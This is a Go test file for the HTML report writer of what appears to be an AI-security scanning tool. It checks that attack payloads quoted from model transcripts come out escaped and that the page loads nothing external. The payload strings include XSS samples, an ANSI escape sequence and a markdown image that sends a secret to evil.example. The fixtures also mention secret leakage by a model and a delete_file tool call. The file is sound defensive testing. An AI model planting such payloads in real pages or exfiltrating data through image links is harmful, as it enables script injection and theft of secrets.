package report

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/aicc-dev/aicc/internal/aicc"
	"github.com/aicc-dev/aicc/internal/validate"
)

func TestWriteHTML(t *testing.T) {
	r, err := Build(context.Background(), fixture(t), "sc_fixture")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Write(&buf, r, "html"); err != nil {
		t.Fatal(err)
	}
	out := buf.String()

	// Attack payloads from transcripts and evidence appear only escaped.
	for _, raw := range []string{"<script", "<img", "onerror=alert(2)>", "\x1b", "</pre><script"} {
		if strings.Contains(out, raw) {
			t.Errorf("raw %q in the HTML report", raw)
		}
	}
	for _, escaped := range []string{
		"&lt;script&gt;alert(1)&lt;/script&gt;",
		"&lt;img src=x onerror=alert(2)&gt;",
		`\x1b[31mred\x1b[0m`,
		"![x](https://evil.example/?q=s3cret)",
		"&lt;/pre&gt;&lt;script&gt;alert(4)&lt;/script&gt;",
		"alert(3)",
	} {
		if !strings.Contains(out, escaped) {
			t.Errorf("escaped payload %q missing from the HTML report", escaped)
		}
	}

	// A standalone document with the expected sections and nothing to load.
	for _, want := range []string{
		"<!DOCTYPE html>",
		`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`,
		`<section id="summary"`,
		`<section id="classes"`,
		`<section id="findings"`,
		`<svg class="chart" role="img"`,
		`<rect class="seg-hit"`,
		`<title>Leakage of secrets in context: hit 3 of 4</title>`,
		`<th>CVSS 4.0</th><th>Reproduced</th>`,
		`<td>8.7 High</td><td>3/8 38% [14–69%]</td>`,
		`<code>CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:L/SI:L/SA:N</code>`,
		`<dd>temperature 0.7, seed 42 (reruns: seed&#43;1&#43;r)</dd>`,
		`<section id="capabilities"`,
		`<td class="n">3/5</td><td>60% [23–88%]</td>`,
		`<span class="badge sev-critical">critical</span>`,
		`<span class="chip">LLM02:2025</span>`,
		`<span class="chip">AML.T0057</span>`,
		`<article class="finding" id="` + findingID("sc_fixture", validate.Key{Class: aicc.ClassSecretLeakage, Family: "leak"}) + `">`,
		`<div class="msg msg-assistant">`,
		`<pre class="toolcall"><code>delete_file(`,
		"</html>",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("HTML report lacks %q", want)
		}
	}
	for _, external := range []string{"src=\"http", "href=\"http", "@import", "url(", "<link", "<script"} {
		if strings.Contains(out, external) {
			t.Errorf("HTML report loads something: %q", external)
		}
	}
}

func TestWriteHTMLLimits(t *testing.T) {
	long := strings.Repeat("A", htmlMessageChars+500)
	var transcript []aicc.Message
	for i := range 40 {
		transcript = append(transcript, aicc.Message{Role: aicc.RoleUser, Content: long + string(rune('a'+i%26))})
	}
	a := &aicc.Attempt{ID: "at_long", Transcript: transcript}
	f := Finding{ID: "fd_x", Title: "long", Hits: 5, Evidence: []string{"at_long"}, Examples: []*aicc.Attempt{a, a, a}}
	r := &Report{ScanID: "sc_long"}
	for range htmlFullFindings + 10 {
		r.Findings = append(r.Findings, f)
	}
	var buf bytes.Buffer
	if err := Write(&buf, r, "html"); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	examples := strings.Count(out, `<details class="example"`)
	if want := htmlFullFindings*MaxExamples + 10; examples != want {
		t.Errorf("%d examples on the page, want %d", examples, want)
	}
	if !strings.Contains(out, "28 messages not shown") || !strings.Contains(out, "501 more characters not shown") {
		t.Error("long transcripts and messages are not cut")
	}
	if perExample := len(out) / examples; perExample > 40_000 {
		t.Errorf("%d bytes per example: the caps do not bound the page", perExample)
	}
}
